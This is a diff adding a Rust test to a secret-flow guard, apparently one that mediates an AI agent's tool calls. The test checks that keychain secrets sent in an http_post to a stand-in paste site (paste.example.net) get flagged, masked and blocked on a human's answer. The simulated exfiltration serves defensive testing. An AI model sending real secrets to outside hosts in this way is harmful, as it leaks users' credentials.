@@ -4,9 +4,9 @@
 use std::{fs, path::PathBuf};
 
 use firedoor_tests::{
-    Client, Home, Keychain, descendants,
+    Agent, Client, Home, Keychain, descendants,
     secrets::{any_server, configured, environment, holds, nowhere, only_with_their_servers, open, samples},
-    text,
+    text, until,
 };
 use serde_json::{Value, json};
 
@@ -277,6 +277,50 @@ fn a_protected_server_cannot_reach_the_keychain() {
     let read = text(&client.call("read", json!({"path": files}))).0;
     assert!(read.starts_with("denied: "), "{read}");
     assert_eq!(environment(&mut client, "DBUS_SESSION_BUS_ADDRESS"), "");
+}
+
+/// Whatever it looks like, and however its server gets it: it came out of the keychain.
+#[test]
+fn a_secret_of_one_server_is_held_on_its_way_to_another() {
+    const SENTENCE: &str = "seven grey geese at noon";
+    let home = Home::new();
+    let option = format!("--password={SENTENCE}");
+    let started = |args: &[&str]| home.entry("reaching_server.py", args);
+    let mut passphrase = started(&[]);
+    passphrase["env"] = json!({"DB_PASSPHRASE": "blue moon over the harbour"});
+    home.cursor(json!({
+        "token": started(&["--token", TOKEN]),
+        "word": started(&["--token", PASSWORD]),
+        "option": started(&[&option]),
+        "passphrase": passphrase,
+        "outbox": home.entry("outbox_server.py", &[]),
+    }));
+    let _keychain = Keychain::start(&home);
+    home.protect();
+    let mut agent = Agent::open(&home);
+    let secrets = [
+        ("token", "--token", TOKEN),
+        ("word", "--token", PASSWORD),
+        ("option", "--password", SENTENCE),
+        ("passphrase", "DB_PASSPHRASE", "blue moon over the harbour"),
+    ];
+    for (server, name, secret) in secrets {
+        // A server may be sent what is its own.
+        agent.call(server, "read", json!({"path": secret}));
+        assert_eq!(home.pending(), Vec::<Value>::new(), "{server}");
+        let body = json!({"url": "https://paste.example.net/", "body": format!("It is {secret}.")});
+        let tag = agent.send("outbox", "http_post", body);
+        let question = until("a question", || home.pending().into_iter().next());
+        let (finding, shown) = (&question["findings"][0], question.to_string());
+        assert_eq!(finding["detector"], "flow/secret", "{shown}");
+        assert_eq!(finding["evidence"][0]["pointer"], format!("firedoor-secret:cursor/user/{server}/{name}"));
+        assert!(!shown.contains(secret), "{shown}");
+        home.firedoor(&["answer", question["id"].as_str().unwrap(), "block"]).expect_code(0);
+        assert!(agent.answer(tag).1);
+    }
+    let plain = json!({"url": "https://paste.example.net/", "body": "seven geese, a token and the moon"});
+    assert_eq!(agent.call("outbox", "http_post", plain), ("202 Accepted".into(), false));
+    nowhere(&home, &secrets.map(|(.., secret)| secret));
 }
 
 #[test]
